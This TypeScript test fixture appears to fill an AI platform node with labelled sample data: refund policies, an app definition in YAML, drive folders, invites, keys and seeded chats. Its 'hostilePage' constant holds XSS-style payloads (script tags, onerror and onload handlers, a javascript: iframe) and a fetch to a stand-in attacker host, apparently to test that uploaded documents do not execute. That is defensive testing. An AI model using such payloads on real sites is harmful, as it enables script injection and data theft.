/** Fills a node with sample data, named as such, so that every page has something to show. */
import { makePdf } from './make-pdf.ts';
import { browserHeaders, call, type Session } from './operator.ts';
import type { RunningNode } from './start-node.ts';

export interface FurnishedHouse {
  /** Page of a link that opens without a session. */
  readonly link: string;
  /** Addresses of pages that have something to show, by name. */
  readonly paths: Readonly<Record<string, string>>;
  readonly conversations: Readonly<Record<'quoted' | 'written' | 'hostile', string>>;
}

const policies = makePdf([
  [
    'Sample data: refund policy of the Lantern stores, valid from January 2026.',
    'Goods in their box may be returned within thirty days of delivery.',
    'The receipt, or the order number, is enough as proof.',
  ],
  [
    'Made-to-order goods cannot be returned unless they are faulty.',
    'Opened food is never taken back.',
    'Orders older than ninety days go to a supervisor, who decides within two working days.',
  ],
]);

/** An HTML page that would act, if anything of it ran where it is shown. */
const hostilePage = `<html><head><title>Delivery</title><script>globalThis.attacked = 7; fetch('http://attacker.example/upload')</script></head>
<body onload="globalThis.attacked = 8"><h1>Delivery</h1>
<p>Parcels leave the lantern warehouse on the same day. &lt;script&gt;globalThis.attacked = 9&lt;/script&gt; &lt;img src=x onerror="globalThis.attacked = 10"&gt;</p>
<img src="http://attacker.example/page.png" onerror="globalThis.attacked = 11">
<iframe src="javascript:parent.attacked = 12"></iframe></body></html>`;

const refundDesk = (line: string) => `apiVersion: myriad/v1
kind: App
name: refund-desk
title: {en: Refund desk, zh: 退款台}
description:
  en: Answers refund questions from the policies and cites the clause.
  zh: 依据制度解答退款问题，并注明条款。
instructions: |
  Answer only from the documents and cite the clause.
  ${line}
model: {capabilities: [zh], optimize: balanced}
knowledge: [library:policies]
starters:
  - {en: What cannot be returned?, zh: 哪些商品不能退？}
  - {en: Who decides about old orders?, zh: 较早的订单由谁决定？}
access: {use: [everyone]}
expose: [chat, api, mcp]
evals:
  - {input: Is opened food taken back?, expect: {contains: [never]}}
budget: {amount: 20 USD, period: day, on_exceed: refuse}
`;

/** @param writerUrl Base address of a scripted model server; without it nothing here writes, and answers are quotes. */
export async function furnishHouse(
  node: RunningNode,
  session: Session,
  writerUrl: string | null,
): Promise<FurnishedHouse> {
  const headers = browserHeaders(node, session);
  const must = async <T>(route: string, body?: unknown, own = false): Promise<T> => {
    const answer = await call<T>(node, route, { ...(own ? { key: null, headers } : {}), body });
    if (answer.status >= 300) throw new Error(`${route} answered ${answer.status}: ${JSON.stringify(answer.body)}`);
    return answer.body;
  };
  const upload = async (route: string, type: string, bytes: Buffer | string, own = false) => {
    const answer = await call<{ id: string }>(node, route, {
      ...(own ? { key: null } : {}),
      headers: { ...(own ? headers : {}), 'content-type': type },
      raw: bytes as unknown as BodyInit,
    });
    if (answer.status >= 300) throw new Error(`${route} answered ${answer.status}`);
    return answer.body.id;
  };
  const talk = async (app: string, question: string, file?: { name: string; type: string; bytes: Buffer | string }) => {
    const { conversation } = await must<{ conversation: { id: string } }>('POST /api/conversations', { app }, true);
    const route = `POST /api/conversations/${conversation.id}`;
    const files = file ? [await upload(`${route}/files?name=${file.name}`, file.type, file.bytes, true)] : [];
    const sent = await must<{ answer: { id: string } }>(
      `${route}/messages`,
      { parentId: null, text: question, ...(files.length > 0 ? { attachments: files } : {}) },
      true,
    );
    await (await fetch(`${node.url}/api/messages/${sent.answer.id}/stream`, { headers })).text();
    return conversation.id;
  };

  const library = await must<{ id: string }>('POST /api/collections', {
    name: 'library:policies',
    readers: ['everyone'],
  });
  const documents = `POST /api/collections/${library.id}/documents`;
  await upload(`${documents}?name=refund-policy.pdf`, 'application/pdf', policies);
  await upload(`${documents}?name=delivery.html`, 'text/html', hostilePage);
  await upload(
    `${documents}?name=${encodeURIComponent('示例：退货说明.md')}`,
    'text/markdown',
    '# 示例数据\n\n生鲜食品签收后二十四小时内可以退货。\n',
  );
  await upload(`${documents}?name=scan.pdf`, 'application/pdf', '%PDF-1.4\nno pages here');
  const drive = await must<{ own: { rootId: string } }>('GET /api/drive', undefined, true);
  const reports = await must<{ id: string }>(
    'POST /api/drive/folders',
    { parentId: drive.own.rootId, name: 'Sample data: reports' },
    true,
  );
  for (const [name, bytes] of [
    ['refund-policy.pdf', policies],
    ['示例：计划.md', '# 示例数据\n\n灯笼工坊六月完工。\n'],
    ['broken.pdf', '%PDF-1.4\nno pages here'],
  ] as const)
    await upload(
      `PUT /api/drive/content?parent=${reports.id}&name=${encodeURIComponent(name)}`,
      'application/octet-stream',
      bytes,
      true,
    );
  const link = await must<{ url: string }>(`POST /api/drive/nodes/${reports.id}/links`, {}, true);
  await must('PUT /api/groups/support', { members: [session.personId] });
  await must('POST /api/invites', { role: 'member', groups: ['support'] });
  await must('POST /api/keys', { name: 'till' });
  for (let waited = 0; waited < 100; waited += 1) {
    const { items } = await must<{ items: { status: string }[] }>(`GET /api/collections/${library.id}/documents`);
    if (items.every(({ status }) => status === 'ready' || status === 'failed')) break;
    await new Promise((wake) => setTimeout(wake, 100));
  }
  await must('POST /api/apps', { source: refundDesk('If they do not say, say so.') });
  await must('POST /api/apps/refund-desk/publish', {});
  await must('PUT /api/apps/refund-desk/draft', {
    source: refundDesk('If they do not say, say so and name whom to ask.'),
  });
  await must('POST /api/apps/refund-desk/publish', {});

  const quoted = await talk('assistant', 'Can made-to-order goods be returned?', {
    name: 'refund-policy.pdf',
    type: 'application/pdf',
    bytes: policies,
  });
  const page = await talk('assistant', 'When do parcels leave the lantern warehouse?', {
    name: 'delivery.html',
    type: 'text/html',
    bytes: hostilePage,
  });
  await talk('refund-desk', 'Is opened food ever taken back?');
  let written = quoted;
  if (writerUrl !== null) {
    await must('POST /api/models', {
      provider: 'vllm',
      model: 'obeys',
      name: 'sample-writer',
      baseUrl: `${writerUrl}/v1`,
      capabilities: ['chat', 'generate', 'zh', 'tools', 'json'],
      key: 'sk-sample',
      price: {
        currency: 'USD',
        inputMicrosPerMillion: 1_000_000,
        outputMicrosPerMillion: 2_500_000,
        source: 'sample',
        date: '2026-01-01',
      },
    });
    written = await talk('assistant', 'Show me markdown.');
  }
  const { items: runs } = await must<{ items: { id: string }[] }>('GET /api/runs?limit=1');
  return {
    link: new URL(link.url).pathname,
    conversations: { quoted, written, hostile: page },
    paths: {
      assistant: '/',
      quoted: `/chat/${quoted}`,
      written: `/chat/${written}`,
      apps: '/apps',
      'new app': '/apps/new',
      app: '/app/refund-desk',
      'app: try it': '/app/refund-desk?tab=try',
      'app: versions': '/app/refund-desk?tab=versions',
      'app: use from code': '/app/refund-desk?tab=use',
      'app: access': '/app/refund-desk?tab=access',
      'app chat': '/app/refund-desk/chat',
      models: '/models',
      knowledge: '/knowledge',
      collection: `/knowledge/${library.id}`,
      drive: '/drive',
      'drive: a folder': `/drive/${reports.id}`,
      'drive: as a grid': `/drive/${reports.id}?layout=grid`,
      'drive: trash': '/drive?view=trash',
      'drive: search': '/drive?q=refund',
      runs: '/runs',
      run: `/runs/${runs[0]?.id}`,
      spend: '/spend',
      people: '/people',
      groups: '/people?tab=groups',
      invites: '/people?tab=invites',
      keys: '/people?tab=keys',
      settings: '/settings',
      sessions: '/settings?tab=sessions',
      'this node': '/settings?tab=node',
      audit: '/settings?tab=audit',
      'no page': '/nowhere',
    },
  };
}
